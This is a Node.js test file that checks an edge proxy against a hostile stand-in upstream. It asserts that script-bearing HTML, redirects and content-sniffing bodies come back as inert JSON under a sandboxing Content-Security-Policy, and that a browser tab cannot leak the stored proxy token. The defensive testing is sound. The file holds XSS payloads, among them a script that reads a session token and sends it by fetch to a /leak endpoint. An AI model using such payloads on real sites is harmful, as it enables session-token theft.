// The edge proxy (real workerd) in front of a hostile upstream standing in for DCS: a local
// server answering attacker-chosen bodies, pointed at through DCS_ENDPOINT (issue 21). Every
// answer of an API or mirror route must be JSON of the proxy's own type under a sandboxing
// Content-Security-Policy; an upstream redirect or a body that is not JSON is a 502 that carries
// the upstream status, never its bytes. A Chromium tab opening the mirror URL with a proxy token
// remembered runs no script and cannot read the token.
import { describe, test, before, after } from "node:test";
import assert from "node:assert/strict";
import http from "node:http";
import { PROJECT, PROXY_TOKEN, stack, close, closeAll, req, json, errorBody, mirrorBase } from "./helpers.mjs";
import { launchBrowser, openPage } from "../page/stack.mjs";

const M = mirrorBase();
const API_CSP = "default-src 'none'; frame-ancestors 'none'; sandbox";
const TOKEN_KEY = "dcs-tasks.proxyToken";
const RID = "0123456789abcdef0123456789abcdef";

/** The hostile upstream: what it answers is chosen by the instance ID in the path. */
function hostileUpstream() {
  const seen = [];
  let port = 0;
  const leakScript = () =>
    `<script>document.title = "PWNED:" + sessionStorage.getItem(${JSON.stringify(TOKEN_KEY)});` +
    `fetch("http://127.0.0.1:${port}/leak?t=" + encodeURIComponent(sessionStorage.getItem(${JSON.stringify(TOKEN_KEY)})));</script>`;
  const server = http.createServer((rq, rs) => {
    seen.push(rq.url);
    const inst = rq.url.split("/")[4] || "";
    rs.setHeader("X-Request-Id", RID);
    const send = (status, type, body, headers = {}) => {
      rs.writeHead(status, { "Content-Type": type, ...headers });
      rs.end(body);
    };
    if (rq.url.startsWith("/leak")) return send(200, "text/plain", "leaked");
    switch (inst) {
      case "html":
        return send(200, "text/html; charset=utf-8", `<!doctype html><title>x</title><h1>hi</h1>${leakScript()}`);
      case "htmljson": // a JSON-looking body under an HTML type
        return send(200, "text/html", "{}");
      case "redirect":
        return send(302, "text/html", `<html><a href="http://127.0.0.1:${port}/landing">moved</a>${leakScript()}</html>`, {
          Location: `http://127.0.0.1:${port}/landing`,
        });
      case "jsonscript":
        return send(200, "application/json", JSON.stringify({
          task_count: "1",
          tasks: [{ id: "t1", name: `</script>${leakScript()}<img src=x onerror="alert(1)">`, status: "SUCCESS" }],
        }));
      case "sniff": // JSON type, HTML bytes
        return send(200, "application/json", `<html>${leakScript()}</html>`);
      default:
        return send(404, "application/json", '{"error_code":"DCS.4404","error_msg":"no"}');
    }
  });
  return {
    seen,
    server,
    listen: () => new Promise((r) => server.listen(0, "127.0.0.1", () => { port = server.address().port; r(port); })),
    close: () => new Promise((r) => server.close(r)),
  };
}

function assertInert(r) {
  assert.equal(r.headers["content-type"], "application/json; charset=utf-8", `Content-Type of a ${r.status}: ${r.body.slice(0, 200)}`);
  assert.equal(r.headers["x-content-type-options"], "nosniff");
  assert.equal(r.headers["content-security-policy"], API_CSP);
  assert.equal(r.headers.location, undefined, "a Location was relayed");
  JSON.parse(r.body);
}

describe("hostile upstream (DCS_ENDPOINT = a server answering attacker-chosen bodies)", () => {
  let s;
  let up;
  const auth = { Authorization: `Bearer ${PROXY_TOKEN}` };
  before(async () => {
    up = hostileUpstream();
    const port = await up.listen();
    s = await stack({
      env: { DCS_ENDPOINT: `http://127.0.0.1:${port}`, PROXY_TOKEN, PUBLIC_ACCESS: "read", ENABLE_DELETE: "true" },
    });
  });
  after(async () => {
    await close(s);
    await closeAll();
    await up.close();
  });

  test("text/html with a script: every route answers 502 BAD_UPSTREAM JSON carrying the status, not the bytes", async () => {
    for (const [method, path] of [
      ["GET", `${M}/html/tasks`],
      ["GET", `${M}/html/tasks/t1/progress`],
      ["DELETE", `${M}/html/tasks/t1`],
      ["GET", `${M}/htmljson/tasks`],
      ["GET", `${M}/sniff/tasks`],
    ]) {
      const r = await req(s, path, { method, headers: auth });
      const b = errorBody(r, assert, { status: 502, code: "BAD_UPSTREAM" });
      assert.match(b.message, /HTTP 200 with a body that is not JSON/, `${method} ${path}`);
      assert.ok(!/script|PWNED|<h1>/i.test(r.body), `upstream bytes relayed: ${r.body}`);
      assert.equal(r.headers["x-request-id"], RID, "the upstream request ID is kept for support");
      assert.equal(r.headers["cache-control"], "no-store");
      assertInert(r);
    }
    // the normalized routes never relay bytes either
    for (const path of ["/api/instances/html/tasks", "/api/instances/html/tasks?all=1", "/api/instances/html/tasks/t1/progress"]) {
      const r = await req(s, path, { headers: auth });
      assert.equal(r.status, 502, `${path}: ${r.body}`);
      assert.ok(!/script|PWNED/i.test(r.body), r.body);
      assertInert(r);
    }
  });

  test("a 302 with a body: 502 BAD_UPSTREAM, no Location, no body relayed (mirror and /api)", async () => {
    for (const [method, path] of [
      ["GET", `${M}/redirect/tasks`],
      ["GET", `${M}/redirect/tasks/t1/progress`],
      ["DELETE", `${M}/redirect/tasks/t1`],
      ["GET", "/api/instances/redirect/tasks"],
      ["GET", "/api/instances/redirect/tasks?all=1"],
      ["GET", "/api/instances/redirect/tasks/t1/progress"],
    ]) {
      const r = await req(s, path, { method, headers: auth });
      const b = errorBody(r, assert, { status: 502, code: "BAD_UPSTREAM" });
      assert.match(b.message, /HTTP 302 \(a redirect\)/);
      assert.equal(b.requestId ?? r.headers["x-request-id"], RID);
      assert.ok(!/landing|script|moved/i.test(r.body), r.body);
      assertInert(r);
    }
    assert.ok(!up.seen.some((u) => u.startsWith("/landing")), "the redirect was followed");
  });

  test("a JSON body with a script-like string: relayed byte for byte, but as JSON under the sandbox CSP", async () => {
    const r = await req(s, `${M}/jsonscript/tasks`, { headers: auth });
    assert.equal(r.status, 200);
    assert.match(r.body, /<\/script><script>/, "the JSON is relayed unchanged");
    assertInert(r);
    const a = await req(s, "/api/instances/jsonscript/tasks", { headers: auth });
    assert.equal(a.status, 200, a.body);
    assert.match(json(a).tasks[0].name, /<\/script>/);
    assertInert(a);
    // the proxy's own errors carry the same headers
    const e = await req(s, "/api/instances/a%2Fb/tasks", { headers: auth });
    assert.equal(e.status, 400);
    assertInert(e);
    // PUBLIC_ACCESS=read lets an anonymous read through (the upstream's 404 becomes JSON)
    const u = await req(s, "/api/instances/x/tasks");
    errorBody(u, assert, { status: 404, code: "HTTP_ERROR" });
    assertInert(u);
  });

  test("Chromium: the mirror URL opened in a tab with the token remembered runs no script and cannot read the token", { timeout: 120_000 }, async () => {
    const browser = await launchBrowser();
    try {
      const { page, context } = await openPage(browser, { allow: [/status of 502/, /Content Security Policy|sandbox/i] });
      const dialogs = [];
      page.on("dialog", (d) => { dialogs.push(d.message()); d.dismiss(); });
      // The page remembers the token for this tab, as its "remember for this tab" does.
      await page.goto(s.url);
      await page.evaluate(([k, v]) => sessionStorage.setItem(k, v), [TOKEN_KEY, PROXY_TOKEN]);
      assert.equal(await page.evaluate((k) => sessionStorage.getItem(k), TOKEN_KEY), PROXY_TOKEN);
      const leaksBefore = up.seen.filter((u) => u.startsWith("/leak")).length;
      for (const path of [`${M}/html/tasks`, `${M}/jsonscript/tasks`, `${M}/sniff/tasks`, `${M}/redirect/tasks`]) {
        const resp = await page.goto(new URL(path, s.url).href);
        assert.equal(resp.headers()["content-security-policy"], API_CSP, path);
        await page.waitForTimeout(300);
        const title = await page.title();
        assert.ok(!title.startsWith("PWNED"), `a script ran on ${path}: ${title}`);
        // The document is sandboxed (an opaque origin): even code in it cannot read the token.
        const read = await page.evaluate((k) => {
          try {
            return `read:${sessionStorage.getItem(k)}`;
          } catch (e) {
            return `refused:${e.name}`;
          }
        }, TOKEN_KEY);
        assert.equal(read, "refused:SecurityError", `${path}: ${read}`);
        assert.equal(await page.evaluate(() => document.scripts.length), 0, `${path}: a script element was parsed`);
      }
      assert.equal(up.seen.filter((u) => u.startsWith("/leak")).length, leaksBefore, "the token reached the attacker");
      assert.deepEqual(dialogs, []);
      // Back on the page's own origin the token is still there (the tab kept it; nothing stole it).
      await page.goto(s.url);
      assert.equal(await page.evaluate((k) => sessionStorage.getItem(k), TOKEN_KEY), PROXY_TOKEN);
      await context.close();
    } finally {
      await browser.close();
    }
  });
});
